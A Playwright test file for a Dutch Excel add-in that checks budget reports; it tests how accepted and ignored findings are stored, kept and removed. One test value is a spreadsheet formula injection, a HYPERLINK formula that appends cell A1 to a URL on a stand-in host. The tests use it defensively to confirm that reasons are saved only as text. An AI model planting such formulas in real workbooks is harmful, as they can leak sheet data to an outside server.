import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { BrowserContext, Page } from "playwright-core";
import { main } from "../../src/cli/berap-check";
import { STORE_SHEET } from "../../src/berap";
import { readXlsx } from "../../src/workbook/xlsx";
import { FakeSheetData, fakeExcelScript, SAVED_FAKE } from "../support/fakeExcelInPage";
import { EXAMPLE, newPane, openFile, runCheck, shot } from "../support/pane";
import { paneSuite } from "../support/paneSuite";

/*
 * Accepting and ignoring findings in the production build (Debian Chromium, 320 px). The example has one fout,
 * Begroting D24 (438 where the explanation adds up to 436), 21 afrondingsverschillen, the first Samenvatting
 * C32 (52% where 53% follows), and 19 info (README; test/berap/example.test.ts). In Excel (the strict fake)
 * the decisions go to a very hidden sheet of text cells and survive a re-check and a reopened workbook until
 * a figure changes; standalone they go into a saved copy that the pane and berap-check both honour.
 */
const suite = paneSuite();
const START = "1 fout, 21 afrondingsverschillen, 19 info";
const HOSTILE_REASON = '=HYPERLINK("https://x.invalid/?"&A1) zie memo';

/** A pane "in Excel" on a fake workbook: the example, or the sheets a previous pane left ("reopen"). */
async function excelPane(
  sheets: Parameters<typeof fakeExcelScript>[0]
): Promise<{ context: BrowserContext; page: Page }> {
  const context = await suite.browser.newContext({ viewport: { width: 320, height: 800 } });
  await context.addInitScript(fakeExcelScript(sheets));
  const page = await context.newPage();
  await page.goto(`${suite.url}/taskpane.html`);
  await page.getByRole("button", { name: "Controleer werkmap" }).waitFor();
  return { context, page };
}

const overview = (p: Page) => p.getByTestId("overzicht").innerText();

async function waitOverview(p: Page, text: string | RegExp) {
  await p.getByTestId("overzicht").getByText(text).waitFor();
}

/** Opens a finding's decision form, types the reason and saves; waits for the announcement. */
async function decideOn(p: Page, action: string, place: string, reason: string, said: string) {
  await p.getByRole("button", { name: `${action}: ${place}` }).click();
  const form = p.getByTestId("besluit-formulier");
  await form.getByRole("textbox", { name: "Reden (niet verplicht)" }).fill(reason);
  await form.getByRole("button", { name: "Opslaan" }).click();
  await p.getByTestId("besluit-melding").getByText(said).waitFor();
}

const ACCEPT = "Accepteren (afrondingsverschil)";

describe("accepting and ignoring in Excel (strict fake)", () => {
  let example: Awaited<ReturnType<typeof readXlsx>>;
  let saved: FakeSheetData[];
  beforeAll(async () => {
    example = await readXlsx(fs.readFileSync(EXAMPLE));
  });

  it("stores the decisions on a very hidden sheet of text and keeps them through a re-check", async () => {
    const { context, page } = await excelPane(example);
    try {
      await page.evaluate(() => {
        (window as unknown as { __fakeExcel: { active: string } }).__fakeExcel.active = "Cao";
      });
      await runCheck(page);
      await expect(overview(page)).resolves.toBe(START);
      await decideOn(
        page,
        ACCEPT,
        "Afrondingsverschil Samenvatting C32",
        "",
        "Samenvatting C32 geaccepteerd als afrondingsverschil."
      );
      await waitOverview(page, "1 fout, 20 afrondingsverschillen, 19 info · 1 geaccepteerd");
      // Keyboard only: Negeren, the form, the reason, Enter on Opslaan.
      await page.getByRole("button", { name: "Negeren: Fout Begroting D24" }).focus();
      await page.keyboard.press("Enter");
      await page.keyboard.type(HOSTILE_REASON);
      await page.keyboard.press("Tab");
      await page.keyboard.press("Enter");
      await page.getByTestId("besluit-melding").getByText("Begroting D24 genegeerd.").waitFor();
      await waitOverview(
        page,
        "0 fouten, 20 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
      );
      // The finding left the list; focus went on to the next finding, whose headline has it.
      await expect(
        page.getByRole("button", { name: "Negeren: Fout Begroting D24" }).count()
      ).resolves.toBe(0);
      await expect(
        page.evaluate(() => document.activeElement?.getAttribute("data-testid"))
      ).resolves.toBe("bevinding");

      const store = await page.evaluate(`(() => {
        const x = window.__fakeExcel;
        const ws = x.sheets.find((s) => s.name === ${JSON.stringify(STORE_SHEET)});
        return ws && { visibility: ws.visibility, last: x.sheets[x.sheets.length - 1] === ws, active: x.active,
          cells: ws.filledCells().map(([, , c]) => c) };
      })()`);
      const { visibility, last, active, cells } = store as {
        visibility: string;
        last: boolean;
        active: string;
        cells: { value: unknown; formula?: string; numFmt?: string }[];
      };
      expect([visibility, last, active]).toEqual(["VeryHidden", true, "Cao"]);
      expect(cells.filter((c) => c.formula !== undefined || c.numFmt !== "@")).toEqual([]);
      expect(cells.map((c) => c.value)).toContain(HOSTILE_REASON);

      await page.getByRole("button", { name: "Geaccepteerd en genegeerd (2)" }).click();
      const decided = page.getByTestId("besloten");
      await expect(decided.count()).resolves.toBe(2);
      await expect(decided.filter({ hasText: "Begroting D24" }).innerText()).resolves.toContain(
        `Reden: ${HOSTILE_REASON}`
      );
      await shot(page, "besloten-excel");

      await runCheck(page);
      await expect(overview(page)).resolves.toBe(
        "0 fouten, 20 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
      );

      // The report sheet lists the decided findings apart, under their own title, their reason as text.
      await page.getByRole("button", { name: "Rapport op nieuw blad" }).click();
      await page.getByText(/Rapport met \d+ bevindingen geschreven op blad/).waitFor();
      const report = (await page.evaluate(`(() => {
        const ws = window.__fakeExcel.sheets.find((s) => s.name === "Berap-controle");
        return ws.filledCells().map(([, , c]) => c);
      })()`)) as { value: unknown; formula?: string }[];
      const texts = report.map((c) => c.value);
      expect(texts).toContain("Geaccepteerd en genegeerd");
      expect(texts).toContain(HOSTILE_REASON);
      expect(
        texts.filter((v) => typeof v === "string" && /^(geaccepteerd|genegeerd)$/i.test(v)).length
      ).toBe(2);
      expect(
        report.filter((c) => typeof c.formula === "string" && c.formula.includes("x.invalid"))
      ).toEqual([]);
      await page.evaluate(`(() => {
        const x = window.__fakeExcel;
        x.sheets.splice(x.sheets.findIndex((s) => s.name === "Berap-controle"), 1);
      })()`);
      saved = (await page.evaluate(SAVED_FAKE)) as FakeSheetData[];
    } finally {
      await context.close();
    }
  }, 90_000);

  it("keeps them in a reopened workbook, brings the fout back when its figure changes, and removes them", async () => {
    const { context, page } = await excelPane(saved);
    try {
      await runCheck(page);
      await expect(overview(page)).resolves.toBe(
        "0 fouten, 20 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
      );
      // The controller changes Begroting D24 from 438 to 440 (row 24, column D: 0-based 23, 3).
      await page.evaluate(() => {
        const x = (
          window as unknown as {
            __fakeExcel: {
              sheets: { name: string; setCell(r: number, c: number, v: object): void }[];
            };
          }
        ).__fakeExcel;
        x.sheets.find((s) => s.name === "Begroting")!.setCell(23, 3, { value: 440 });
      });
      await runCheck(page);
      // 440 where 436 follows: a difference of 4, more than the tolerance of 1, so a fout again (and the
      // other relations through D24 no longer close either).
      await waitOverview(page, /^\d+ fouten?, .* · 1 geaccepteerd$/);
      expect(Number(/^(\d+) fout/.exec(await overview(page))![1])).toBeGreaterThanOrEqual(1);
      await expect(
        page
          .getByTestId("bevinding")
          .filter({ hasText: /Begroting D24\s*Er staat 440, volgens de tabel 436/ })
          .count()
      ).resolves.toBe(1);
      await expect(page.getByTestId("vervallen").innerText()).resolves.toMatch(
        /^1 eerder besluit geldt niet meer: de cijfers zijn veranderd/
      );
      await shot(page, "besluit-vervallen");

      const before = await overview(page);
      const roundings = (text: string) => Number(/(\d+) afrondingsverschillen/.exec(text)![1]);
      await page.getByRole("button", { name: "Geaccepteerd en genegeerd (1)" }).click();
      await page
        .getByRole("button", { name: "Besluit intrekken: Afrondingsverschil Samenvatting C32" })
        .click();
      await page
        .getByTestId("besluit-melding")
        .getByText(/Besluit over Samenvatting C32 ingetrokken/)
        .waitFor();
      const after = await overview(page);
      expect([roundings(after) - roundings(before), after.includes("geaccepteerd")]).toEqual([
        1,
        false,
      ]);

      // The expired decision is still stored: "Alle besluiten verwijderen" asks, then deletes the sheet.
      // The section stays open through the re-check.
      await expect(
        page
          .getByRole("button", { name: "Geaccepteerd en genegeerd (0)" })
          .getAttribute("aria-expanded")
      ).resolves.toBe("true");
      await page.getByRole("button", { name: "Alle besluiten verwijderen" }).click();
      await page.getByRole("dialog").getByRole("button", { name: "Verwijderen" }).click();
      await page
        .getByTestId("besluit-melding")
        .getByText(/Alle besluiten verwijderd/)
        .waitFor();
      await expect(page.getByTestId("vervallen").count()).resolves.toBe(0);
      await expect(
        page.evaluate(
          `window.__fakeExcel.sheets.some((s) => s.name === ${JSON.stringify(STORE_SHEET)})`
        )
      ).resolves.toBe(false);
    } finally {
      await context.close();
    }
  }, 90_000);

  it("says in Dutch that a protected workbook structure keeps the decision out, and the pane stays", async () => {
    const { context, page } = await excelPane(example);
    try {
      await page.evaluate(() => {
        (
          window as unknown as { __fakeExcel: { protectedStructure: boolean } }
        ).__fakeExcel.protectedStructure = true;
      });
      await runCheck(page);
      await page.getByRole("button", { name: "Negeren: Fout Begroting D24" }).click();
      await page.getByTestId("besluit-formulier").getByRole("button", { name: "Opslaan" }).click();
      await page
        .getByText(/De besluiten zijn niet opgeslagen: de structuur van de werkmap is beveiligd/)
        .waitFor();
      await expect(overview(page)).resolves.toBe(START);
    } finally {
      await context.close();
    }
  }, 60_000);
});

describe("accepting and ignoring standalone: the saved copy", () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "berap-besluiten-"));
  const copy = path.join(dir, "voorbeeld-berap-2025-2 (met besluiten).xlsx");

  it("after 'Naar de eerste fout' the sheet heading above the fout is clear of the sticky bar", async () => {
    const { context, page } = await newPane(suite.browser, suite.url, "light");
    try {
      await openFile(page);
      await runCheck(page);
      await page.getByRole("button", { name: "Info tonen (19)" }).click();
      await page.evaluate(() => window.scrollTo(0, document.documentElement.scrollHeight));
      await page.getByRole("button", { name: "Naar de eerste fout" }).click();
      await page.waitForFunction(() => window.scrollY < 2000);
      await page.waitForTimeout(200);
      const [headingTop, barBottom, itemBottom, height] = await page.evaluate(() => {
        const heading = [...document.querySelectorAll("h4")].find((h) =>
          h.textContent?.startsWith("Begroting")
        )!;
        const bar = document.querySelector('[data-testid="overzicht"]')!.parentElement!;
        const item = document.getElementById("item-0")!;
        return [
          heading.getBoundingClientRect().top,
          bar.getBoundingClientRect().bottom,
          item.getBoundingClientRect().bottom,
          window.innerHeight,
        ];
      });
      expect(headingTop).toBeGreaterThanOrEqual(barBottom);
      expect(itemBottom).toBeLessThanOrEqual(height);
    } finally {
      await context.close();
    }
  }, 60_000);

  it("keeps the decisions in a downloaded copy that a new pane and berap-check both honour", async () => {
    const first = await newPane(suite.browser, suite.url, "light");
    try {
      const page = first.page;
      await openFile(page);
      await runCheck(page);
      await decideOn(
        page,
        ACCEPT,
        "Afrondingsverschil Samenvatting C32",
        "afronding in de bron",
        "Samenvatting C32 geaccepteerd als afrondingsverschil."
      );
      await decideOn(
        page,
        "Negeren",
        "Fout Begroting D24",
        HOSTILE_REASON,
        "Begroting D24 genegeerd."
      );
      await waitOverview(
        page,
        "0 fouten, 20 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
      );
      await page.getByTestId("niet-bewaard").waitFor();
      const download = page.waitForEvent("download");
      await page.getByRole("button", { name: "Kopie opslaan met besluiten" }).click();
      expect((await download).suggestedFilename()).toBe(path.basename(copy));
      await (await download).saveAs(copy);
      await page.getByText(/Kopie opgeslagen als/).waitFor();
      await expect(page.getByTestId("niet-bewaard").count()).resolves.toBe(0);
    } finally {
      await first.context.close();
    }

    const second = await newPane(suite.browser, suite.url, "light");
    try {
      await openFile(second.page, copy);
      await runCheck(second.page);
      await expect(overview(second.page)).resolves.toBe(
        "0 fouten, 20 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
      );
    } finally {
      await second.context.close();
    }

    let out = "";
    const code = await main(
      ["--json", copy],
      { write: (s: string) => void (out += s) },
      { write: () => {} }
    );
    const json = JSON.parse(out) as { samenvatting: { fouten: number; waarschuwingen: number } };
    expect([code, json.samenvatting.fouten, json.samenvatting.waarschuwingen]).toEqual([0, 0, 20]);
  }, 120_000);
});
